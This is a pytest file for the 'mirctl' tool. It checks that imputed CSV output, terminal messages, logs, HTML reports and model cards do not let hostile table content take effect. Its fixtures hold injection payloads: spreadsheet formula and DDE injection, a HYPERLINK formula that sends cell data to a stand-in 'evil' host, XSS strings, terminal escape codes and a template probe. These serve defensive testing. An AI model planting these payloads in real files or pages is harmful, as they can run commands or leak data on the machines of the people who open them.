"""Tables made to harm whoever looks at them: on a terminal, in a browser, in a spreadsheet."""

import csv
import io
import re
from html.parser import HTMLParser

import numpy as np
import pytest
import yaml

from mirctl import cli, console

NAMES = [
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "\x1b]0;owned\x07\x1b[2J\u202e",
    "a|b](javascript:1)`",
    "---",
    "{{ 7 * 7 }}",
]
SPELLINGS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "<img src=x onerror=alert(1)>",
    "\x1b[2Jgone\x07",
    "a|b\u202e",
]
SMALL = [
    "model.width=16", "model.heads=2", "model.encoder_layers=1", "model.decoder_layers=1",
    "train.epochs=1", "train.epoch_rows=512",
]  # fmt: skip


def text(rows, seed, holes=0.0):
    """CSV of all these names, with spellings that depend on each other."""
    rng = np.random.default_rng(seed)
    out = io.StringIO()
    table = csv.writer(out, lineterminator="\n")
    table.writerow(NAMES)
    for _ in range(rows):
        first = rng.integers(len(SPELLINGS))
        cells = [SPELLINGS[(first + shift) % len(SPELLINGS)] for shift in range(len(NAMES))]
        table.writerow(["" if rng.random() < holes else cell for cell in cells])
    return out.getvalue()


@pytest.fixture(scope="module")
def learned(tmp_path_factory):
    folder = tmp_path_factory.mktemp("learned")
    (folder / "table.csv").write_text(text(300, 0, 0.1))
    fit = ["impute", "fit", str(folder / "table.csv"), *SMALL, "--out", str(folder / "model")]
    assert cli.run_command([*fit, "--quiet"]) == 0
    console.configure(quiet=False)
    return folder / "model"


def read(csv_text):
    return list(csv.reader(io.StringIO(csv_text)))


def test_formulas_are_handed_on_as_they_are_and_none_is_made(mirctl, learned, tmp_path):
    given = tmp_path / "holes.csv"
    given.write_text(text(60, 1, 0.3))
    ran = mirctl("impute", "fill", learned, given)
    assert ran.code == 0, ran.err
    before, after = read(given.read_text()), read(ran.out)
    assert after[0] == NAMES
    for old, new in zip(before[1:], after[1:], strict=True):
        assert [n for o, n in zip(old, new, strict=True) if o] == [o for o in old if o]
        assert set(new) <= set(SPELLINGS)
    ran = mirctl("impute", "sample", learned, "-n", 40)
    assert ran.code == 0, ran.err
    made = read(ran.out)
    assert made[0] == NAMES
    assert {cell for row in made[1:] for cell in row} <= set(SPELLINGS)


def acting(told):
    return set("\x1b\x07\x9b\u202e") & set(told)


def test_names_do_not_act_on_a_terminal_or_in_a_log(mirctl, learned, tmp_path):
    (tmp_path / "full.csv").write_text(text(120, 3))
    (tmp_path / "holes.csv").write_text(text(120, 3, 0.3))
    (tmp_path / "other.csv").write_text("x\x1b[2J\n1\n")
    shown = [
        mirctl("impute", "evaluate", tmp_path / "full.csv", tmp_path / "full.csv",
               "--holes", tmp_path / "holes.csv", "--criteria", "filled,similarity"),
        mirctl("impute", "schema", tmp_path / "full.csv"),
        mirctl("artifact", "inspect", learned),
        mirctl("impute", "evaluate", tmp_path / "full.csv", tmp_path / "full.csv",
               "--target", "\x1b[2J"),
        mirctl("impute", "fill", learned, tmp_path / "other.csv"),
        mirctl("artifact", "verify", "no\x1b[2J"),
    ]  # fmt: skip
    assert [ran.code for ran in shown] == [0, 0, 0, 2, 3, 4], [ran.err for ran in shown]
    assert [acting(ran.out + ran.err) for ran in shown] == [set()] * len(shown)


def test_rows_of_a_log_do_not_act_on_a_terminal(mirctl, tmp_path):
    (tmp_path / "log.csv").write_text("user_id,item_id,timestamp\nu\x1b[2J\x07,i,1\nu,i,2\n")
    (tmp_path / "items.csv").write_text("item_id,title\nj\x1b[2J\u202e,t\ni,t\n")
    (tmp_path / "bad.csv").write_text("user_id,item_id,timestamp\nu,i,\x1b[2J\n")
    log, items = tmp_path / "log.csv", tmp_path / "items.csv"
    shown = [
        mirctl("data", "check", "--interactions", log, "--items", items),
        mirctl("data", "check", "--interactions", tmp_path / "bad.csv"),
    ]
    assert [ran.code for ran in shown] == [0, 3], shown
    assert not any(acting(ran.out + ran.err) for ran in shown)


def test_the_log_of_a_run_holds_no_code_of_a_terminal(tmp_path):
    console.log_to(tmp_path / "log.txt")
    try:
        console.warn("column 'x\x1b[2J'")
    finally:
        console.log_to(None)
    assert "column 'x\\x1b[2J'" in (tmp_path / "log.txt").read_text()


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found, self.attributes = set(), set()

    def handle_starttag(self, tag, attributes):
        self.found.add(tag)
        self.attributes |= {name for name, _ in attributes}


def test_the_report_holds_no_tag_of_the_table(mirctl, tmp_path):
    """tests/impute/test_judging_commands.py looks at the rest of the page."""
    for name, seed in (("<img src=x onerror=alert(1)>.csv", 5), ("made.csv", 6)):
        (tmp_path / name).write_text(text(120, seed))
    page = tmp_path / "page.html"
    ran = mirctl(
        "impute", "evaluate", tmp_path / "<img src=x onerror=alert(1)>.csv",
        tmp_path / "made.csv", "--criteria", "similarity", "--report", page,
    )  # fmt: skip
    assert ran.code == 0, ran.err
    tags = Tags()
    tags.feed(page.read_text())
    assert not {"script", "img", "iframe", "a", "object"} & tags.found
    assert not {name for name in tags.attributes if name.startswith("on")}
    assert "{{ 7 * 7 }}" in page.read_text()


def test_the_card_of_a_table_holds_no_markup_of_it(learned):
    """tests/artifact/test_card.py does the same of kinds and metrics."""
    told = (learned / "README.md").read_text()
    _, front, body = re.split(r"^---\n", told, maxsplit=2, flags=re.MULTILINE)
    assert yaml.safe_load(front)["tags"] == ["mirctl", "impute", "impute/table"]
    assert "<script>" not in body.replace("\\<script\\>", "")
    assert "\\|b\\](javascript" in body
    rows = [line for line in body.splitlines() if "| category |" in line]
    assert len(rows) == len(NAMES)
    assert not acting(told)
